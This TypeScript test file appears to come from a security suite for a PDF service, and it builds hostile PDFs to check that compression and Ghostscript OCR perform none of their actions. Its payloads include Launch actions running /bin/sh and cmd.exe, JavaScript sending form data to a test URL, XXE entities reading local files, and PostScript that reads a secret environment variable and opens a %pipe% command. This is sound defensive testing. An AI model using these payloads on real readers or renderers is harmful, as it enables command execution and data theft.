import { PDF } from '@creatorr/tool-kit/files/media-types';
import { type OnePage, onePage } from '@creatorr/tools/testing/builders/pdf';
import type { Family } from '../hostile-case.ts';
import { SECRET_VARIABLE, type World } from '../world.ts';
import { casesFor, mapValues, SUCCEEDS } from './case-tables.ts';

/** Returns pages that ask for other files or addresses, by what asks. */
function requests(world: World): Record<string, OnePage> {
	return {
		...mapValues(actions(world), (action) => ({ catalog: `/OpenAction << /S ${action} >>` })),
		...mapValues(annotations(world), (entries) => ({
			page: `/Annots [<< /Type /Annot /Rect [10 10 90 90] ${entries} >>]`,
		})),
		...mapValues(xObjects(world), ([dictionary, stream]) => ({
			resources: '/XObject << /X 5 0 R >>',
			content: 'q 100 0 0 100 0 0 cm /X Do Q',
			objects: [{ dictionary, stream }],
		})),
		...otherRequests(world),
	};
}

const outside = (path: string) => `<< /Type /Filespec /F (${path}) /UF (${path}) >>`;
const onWeb = ({ url }: World) => `<< /Type /Filespec /FS /URL /F (${url('pdf')}) >>`;

function actions(world: World): Record<string, string> {
	const { files, url } = world;
	return {
		'an address when it is opened': `/URI /URI (${url('pdf')})`,
		'another document when it is opened': `/GoToR /F ${outside(files.text)} /D [0 /Fit]`,
		'another document on the network': `/GoToR /F ${onWeb(world)} /D [0 /Fit]`,
		'an embedded document when it is opened': '/GoToE /T << /R /C /N (a) >> /D [0 /Fit]',
		'a program when it is opened': '/Launch /F (/bin/sh) /Unix << /F (/bin/sh) /P (-c id) >>',
		'a program of Windows’': '/Launch /Win << /F (cmd.exe) /P (/c calc) /O (open) >>',
		'a script when it is opened': `/JavaScript /JS (app.launchURL\\(${url('js')}\\); this.submitForm\\(${url('js')}\\))`,
	};
}

function annotations(world: World): Record<string, string> {
	const here = outside(world.files.text);
	const web = onWeb(world);
	return {
		'a link to an address': `/Subtype /Link /A << /S /URI /URI (${world.url('pdf')}) >>`,
		'a form sent away': `/Subtype /Widget /FT /Tx /T (a) /A << /S /SubmitForm /F ${web} /Flags 4 >>`,
		'data taken in': `/Subtype /Widget /FT /Tx /T (a) /A << /S /ImportData /F ${here} >>`,
		'a film elsewhere': `/Subtype /Movie /Movie << /F ${web} >> /A true`,
		'a sound elsewhere': `/Subtype /Sound /Sound << /R 8000 /F ${here} >>`,
		'a file attached from elsewhere': `/Subtype /FileAttachment /FS ${here}`,
		'rich media elsewhere': `/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a) ${web}] >> >>`,
		'a screen with a rendition elsewhere': `/Subtype /Screen /A << /S /Rendition /R << /S /MR /C << /S /MCD /D ${web} >> >> >>`,
	};
}

const IMAGE =
	'/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceRGB /BitsPerComponent 8';
const PIXELS = 'x'.repeat(64 * 64 * 3);
const FORM = '/Type /XObject /Subtype /Form /BBox [0 0 300 300]';

function xObjects(world: World): Record<string, [dictionary: string, stream: string]> {
	const { files } = world;
	const replacement = `<< /2.0 << /Type /OPI /Version 2.0 /F ${outside(files.png)} >> >>`;
	const alternate = '[<< /Image 6 0 R /DefaultForPrinting true >>]';
	const program = `(${files.ps}) run (${files.text}) (r) file pop`;
	return {
		'an image that lies elsewhere': [`${IMAGE} /F ${outside(files.png)}`, ''],
		'an image that lies on the network': [`${IMAGE} /F ${onWeb(world)} /FFilter /DCTDecode`, ''],
		'a replacement image of a press': [`${IMAGE} /OPI ${replacement}`, PIXELS],
		'an alternate image elsewhere': [`${IMAGE} /Alternates ${alternate}`, PIXELS],
		'a page of another document': [`${FORM} /Ref << /F ${outside(files.text)} /Page 0 >>`, ''],
		'PostScript in its content': ['/Type /XObject /Subtype /PS', program],
		'PostScript in a form': [`${FORM} /Subtype2 /PS /PS 5 0 R`, `(${files.ps}) run`],
	};
}

function otherRequests({ files, url }: World): Record<string, OnePage> {
	const here = outside(files.text);
	const entity = `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${files.text}">]>`;
	const xfa = `${entity}<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><a>&e;</a></xdp:xdp>`;
	const xmp = `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>${entity}<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&e;</dc:title></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`;
	const font =
		'<< /Type /Font /Subtype /TrueType /BaseFont /Elsewhere /FontDescriptor << /Type /FontDescriptor /FontName /Elsewhere /Flags 32 /FontFile2 5 0 R >> >>';
	return {
		'a script of its name tree': {
			catalog: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>',
		},
		'actions of its page': {
			page: `/AA << /O << /S /URI /URI (${url('pdf')}) >> /C << /S /Launch /F (/bin/sh) >> >>`,
		},
		'a file of its own that lies elsewhere': {
			catalog: `/Names << /EmbeddedFiles << /Names [(a) ${here}] >> >> /AF [${here}]`,
		},
		'content that lies elsewhere': {
			page: '/Contents [4 0 R 5 0 R]',
			objects: [{ dictionary: `/F ${here} /FFilter /ASCIIHexDecode`, stream: '' }],
		},
		'PostScript of a page': {
			page: '/PieceInfo << /PS << /Private 5 0 R >> >>',
			objects: [{ dictionary: '', stream: `(${SECRET_VARIABLE}) getenv == (%pipe%id) (w) file` }],
		},
		'a form’s data elsewhere (XFA)': {
			catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>',
			objects: [{ dictionary: '', stream: xfa }],
		},
		'metadata that name a file': {
			catalog: '/Metadata 5 0 R',
			objects: [{ dictionary: '/Type /Metadata /Subtype /XML', stream: xmp }],
		},
		'a font that lies elsewhere': {
			resources: `/Font << /F1 ${font} >>`,
			objects: [{ dictionary: `/F ${here}`, stream: '' }],
		},
	};
}

/** Compression, and OCR that renders every page again with Ghostscript. */
const TOOLS = {
	compressed: { tool: 'compress_heavy', params: {} },
	'rendered again by Ghostscript': {
		tool: 'ocr',
		params: { mode: 'force', deskew: false, rotate_pages: false },
	},
};

/** PDFs with actions for their reader: no tool performs them. */
export const pdfActions: Family = {
	name: 'PDF actions',
	cases: (world) =>
		Object.entries(TOOLS).flatMap(([as, { tool, params }]) =>
			Object.entries(requests(world)).flatMap(([name, parts]) =>
				casesFor(tool, { fileName: 'a.pdf', mimeType: PDF, params }, SUCCEEDS, {
					[`${name}, ${as}`]: () => onePage(parts),
				}),
			),
		),
};
